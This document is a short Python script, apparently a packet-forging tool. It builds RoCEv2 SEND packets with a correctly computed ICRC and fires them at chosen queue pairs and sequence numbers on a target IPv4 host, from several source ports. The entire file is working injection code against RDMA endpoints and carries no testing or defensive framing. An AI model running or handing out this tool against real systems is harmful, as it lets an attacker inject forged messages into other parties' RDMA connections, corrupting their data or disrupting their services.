#!/usr/bin/env python3
"""forged_send.py SOURCE DESTINATION PORTS QP[:PSN]...: sends a SEND of RoCEv2, with the ICRC that it should have, to each of the queue
pairs from each of PORTS ports of an IPv4 address."""
import socket
import struct
import sys
import zlib

ROCE, SEND_ONLY, PARTITION = 4791, 0x04, 0xffff
LENGTH = 20 + 8 + 12 + 4  # IPv4, UDP, BTH, ICRC


def icrc(source, port, destination, transport):
    """IBA A17.3.3: what routers may change counts as ones."""
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0xff, LENGTH, 0, 0x4000, 0xff, socket.IPPROTO_UDP, 0xffff,
                     socket.inet_aton(source), socket.inet_aton(destination))
    udp = struct.pack(">HHHH", port, ROCE, LENGTH - 20, 0xffff)
    return struct.pack("<I", zlib.crc32(b"\xff" * 8 + ip + udp + transport[:4] + b"\xff" + transport[5:]))


def main(source, destination, ports, *pairs):
    for _ in range(int(ports)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, IP_PMTUDISC_DO: identification 0
            sender.bind((source, 0))
            for pair in pairs:
                number, _, psn = pair.partition(":")
                transport = struct.pack(">BBHII", SEND_ONLY, 0x40, PARTITION, int(number), int(psn or 0))
                check = icrc(source, sender.getsockname()[1], destination, transport)
                sender.sendto(transport + check, (destination, ROCE))


if __name__ == "__main__":
    main(*sys.argv[1:])
